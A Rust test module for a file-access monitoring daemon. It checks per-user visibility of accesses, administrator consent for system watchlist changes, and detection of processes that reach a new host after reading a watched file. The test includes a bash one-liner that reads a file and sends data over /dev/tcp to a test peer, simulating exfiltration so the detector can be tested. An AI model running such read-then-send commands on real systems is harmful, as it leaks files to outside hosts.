//! What another user may see and change, and whom programs reach after they have read a watched file.

use std::{
    collections::BTreeSet,
    ffi::OsStr,
    net::SocketAddr,
    os::unix::process::CommandExt,
    process::{Command, Output, Stdio},
};

use anyhow::{Context, Result, ensure};
use sekhmet_common::bus::ACTION_CONFIGURE;
use sekhmet_testkit::namespace::Peer;
use serde_json::Value;

use super::{none, place::Place, strace, stream::Stream};
use crate::{
    asked::{Say, Scene},
    blocked::Sink,
    caller::{Caller, UID, done, refused, said},
    checker::{Checker, expect, is_endpoint, until_ok},
    report::Report,
};

/// The home of `nobody`, which need not exist: asking for a file is enough.
const HOME: &str = "/nonexistent";

/// A port of the second host.
const PORT: u16 = 8003;

/// Reads, then connects.
const REACH: &str = include_str!("reach.py");

/// A user without rights.
pub(super) fn others(checker: &Checker, place: &Place, entry: u64, report: &mut Report) -> Result<()> {
    let caller = Caller::new(checker)?;
    let lines = |arguments: &[&str]| lines(&caller.ctl(&[], arguments).output().map_err(|e| e.to_string())?);
    let plain = place.file("plain");
    let own = || {
        let shown = lines(&["files", "--json"])?;
        none(&shown.iter().filter(|line| line["process"]["uid"] != UID).cloned().collect::<Vec<_>>())?;
        let is_there = shown.iter().any(|line| line["path"] == plain.to_string_lossy().as_ref());
        is_there.then_some(()).ok_or_else(|| format!("the own access is not among {}", shown.len()))
    };
    report.check("a user sees the own accesses, and no others", until_ok(own));
    own_entry(checker, place, &lines, report)?;
    let mut pattern = place.beside.clone().into_os_string().into_string().unwrap_or_default();
    pattern.push_str("/**");
    let id = entry.to_string();
    let before = list(checker);
    for arguments in [
        &["watchlist", "add", &pattern][..],
        &["watchlist", "add", "--system", "~/demo/**"],
        &["watchlist", "remove", &id],
        &["watchlist", "disable", &id],
    ] {
        let output = caller.ctl(&[], arguments).output()?;
        report.check(&format!("a user may not {}", arguments[..2].join(" ")), refused(&output));
    }
    report.check("and nothing was changed", same(checker, &before));
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(asked(checker, &pattern, &before, report))
}

type Lines<'a> = &'a dyn Fn(&[&str]) -> Result<Vec<Value>, String>;

/// What a user watches in the own home needs nobody's consent.
fn own_entry(checker: &Checker, place: &Place, lines: Lines<'_>, report: &mut Report) -> Result<()> {
    let name = place.watched.file_name().unwrap_or_default().to_string_lossy().into_owned();
    let added = lines(&["watchlist", "add", "--json", &format!("~/{name}/**")]);
    let id = added.as_ref().ok().and_then(|lines| lines.first()?["id"].as_u64());
    let is_own = |lines: Vec<Value>| match lines.as_slice() {
        [entry] if entry["owner"]["user"] == UID => Ok(()),
        other => Err(format!("{other:?}")),
    };
    report.check("a user watches files in the own home", added.and_then(is_own));
    let Some(id) = id else { return Ok(()) };
    let wanted = format!("{HOME}/{name}/token");
    let mut children = [Command::new("cat"), Command::new("cat")];
    children[0].uid(UID).gid(UID);
    for command in &mut children {
        let status = command.arg(&wanted).stderr(Stdio::null()).status()?;
        ensure!(!status.success(), "{wanted} is there");
    }
    let of =
        |line: &Value| line["path"] == wanted.as_str() && line["entry"] == id && line["result"] == "ENOENT";
    let own = until_ok(|| {
        let found = lines(&["files", "--json"])?.iter().filter(|line| of(line)).count();
        (found == 1).then_some(()).ok_or_else(|| format!("{found} accesses"))
    });
    report.check("and is told the own access to them, not that of another user", own);
    let both = until_ok(|| {
        let found = checker.list("files")?.iter().filter(|line| of(line)).count();
        (found == 2).then_some(()).ok_or_else(|| format!("{found} accesses"))
    });
    report.check("who may see everything sees both", both);
    report.check(
        "a user removes the own entry",
        lines(&["watchlist", "remove", "--json", &id.to_string()]).map(drop),
    );
    Ok(())
}

/// What is for every user needs an administrator's consent.
async fn asked(
    checker: &Checker,
    pattern: &str,
    before: &Result<Vec<Value>, String>,
    report: &mut Report,
) -> Result<()> {
    let mut scene = Scene::new(checker).await?;
    let add = ["watchlist", "add", pattern];
    for (name, say) in [("a wrong password", Say::No), ("a dismissed question", Say::Dismissed)] {
        let (question, output) = scene.call(&add, say).await?;
        let is_about = question.action == ACTION_CONFIGURE && question.message.contains(pattern);
        report.check(
            &format!("{name}: the question names the pattern"),
            is_about.then_some(()).ok_or_else(|| question.told()),
        );
        report.check(&format!("{name}: the caller is told"), refused(&output));
        report.check(&format!("{name}: nothing was changed"), same(checker, before));
        report.note(&question.told());
    }
    let (_question, output) = scene.call(&add, Say::Yes).await?;
    report.check("yes: done", done(&output));
    let id = lines(&output).ok().and_then(|lines| lines.first()?["id"].as_u64()).context("no number")?;
    let (question, output) = scene.call(&["watchlist", "remove", &id.to_string()], Say::Yes).await?;
    report.check("to remove it is asked about anew", done(&output));
    report.note(&question.told());
    report.check("and it is as it was", same(checker, before));
    Ok(())
}

fn lines(output: &Output) -> Result<Vec<Value>, String> {
    done(output)?;
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    text.lines().map(|line| serde_json::from_str(line).map_err(|e| e.to_string())).collect()
}

fn list(checker: &Checker) -> Result<Vec<Value>, String> {
    let output = Command::new(&checker.ctl).args(["watchlist", "list", "--json"]).output();
    let output = output.map_err(|e| e.to_string())?;
    if output.status.success() { lines(&output) } else { Err(said(&output)) }
}

fn same(checker: &Checker, before: &Result<Vec<Value>, String>) -> Result<(), String> {
    let (before, now) = (before.clone()?, list(checker)?);
    (before == now).then_some(()).ok_or_else(|| format!("{} entries, {} before", now.len(), before.len()))
}

/// The order of two events: a file was read, a remote was reached.
pub(super) fn reached(checker: &Checker, place: &Place, report: &mut Report) -> Result<()> {
    let peer = Peer::create().context("a second host (iproute2)")?;
    let [v4, v6] = [SocketAddr::new(peer.address(false)?, PORT), SocketAddr::new(peer.address(true)?, PORT)];
    let mut sinks = [Sink::start(&peer, v4)?, Sink::start(&peer, v6)?];
    for sink in &mut sinks {
        sink.arrived()?;
    }
    let mut stream = Stream::start(checker)?;
    let (plain, other) = (place.file("plain"), place.beside.join("plain").into_os_string());
    // Another program than the ones below, for which the host is new each time.
    let bash = "read -r _ < \"$1\"; exec 3<>\"/dev/tcp/$2/$3\"; echo key >&3; sleep 0.3";
    let mut command = Command::new("bash");
    command.args(["-c", bash, "bash"]).arg(&other).args([v4.ip().to_string(), v4.port().to_string()]);
    let unread = run(&mut command)?;

    for (name, remote, is_child) in [("the reader", v4, false), ("a child of the reader", v6, true)] {
        let mut command = Command::new(strace::python()?);
        command.args(["-c", REACH]).args(is_child.then_some("--child")).arg(&plain).arg("--");
        command.args([remote.ip().to_string(), remote.port().to_string()]);
        let pid = run(&mut command)?;
        let told = contact(&mut stream, &plain, remote);
        report.check(&format!("{name} reached a new host after it: told"), told);
        let shown = until_ok(|| shown(checker, pid, &plain, remote, is_child));
        report.check(&format!("{name} reached a new host after it: listed with the access"), shown);
    }
    let contacts: BTreeSet<String> = stream.all().iter().filter_map(|(_, event)| contact_id(event)).collect();
    let listed =
        checker.list("files").map(|lines| lines.iter().filter(|l| l["process"]["pid"] == unread).count());
    report.check(
        "who read nothing that is watched is not told of",
        match listed {
            Ok(0) if contacts.len() == 2 => Ok(()),
            other => Err(format!("{contacts:?} told in all, listed: {other:?}")),
        },
    );
    Ok(())
}

/// Runs a program to its end; gives its process id.
fn run(command: &mut Command) -> Result<u32> {
    let mut child = command.stdin(Stdio::null()).spawn()?;
    let pid = child.id();
    let status = child.wait()?;
    ensure!(status.success(), "{command:?}: {status}");
    Ok(pid)
}

fn contact_id(event: &Value) -> Option<String> {
    (event["type"] == "contact_after").then(|| event["contact"]["id"].to_string())
}

/// The event of a contact with this remote, after the access to this file that was told before it.
fn contact(stream: &mut Stream, path: &OsStr, remote: SocketAddr) -> Result<(), String> {
    let found = stream.until(|event| is_endpoint(&event["contact"]["remote"], remote));
    let (_, event) = found.ok_or("no contact")?;
    let contact = &event["contact"];
    expect(contact, "reason", "new_remote")?;
    let is_first = |event: &Value| {
        event["type"] == "file_accessed"
            && event["access"]["id"] == contact["access"]
            && event["access"]["path"] == path.to_string_lossy().as_ref()
    };
    let (before, after) = (position(stream, is_first), position(stream, |other| *other == event));
    (before < after && before.is_some()).then_some(()).ok_or_else(|| format!("not after the access: {event}"))
}

fn position(stream: &mut Stream, fits: impl Fn(&Value) -> bool) -> Option<usize> {
    stream.all().iter().position(|(_, event)| fits(event))
}

/// The same in the list: with the reader's access, by the reader or by another process.
fn shown(
    checker: &Checker,
    pid: u32,
    path: &OsStr,
    remote: SocketAddr,
    is_child: bool,
) -> Result<(), String> {
    let lines = checker.list("files")?;
    let mut own = lines.iter().filter(|line| line["process"]["pid"] == pid);
    let line = own.find(|line| line["path"] == path.to_string_lossy().as_ref()).ok_or("no access")?;
    match line["contacts"].as_array().map(Vec::as_slice) {
        Some([after]) if is_endpoint(&after["remote"], remote) && (after["pid"] != pid) == is_child => {
            expect(after, "reason", "new_remote")
        }
        _ => Err(format!("expected one contact with {remote}: {line}")),
    }
}
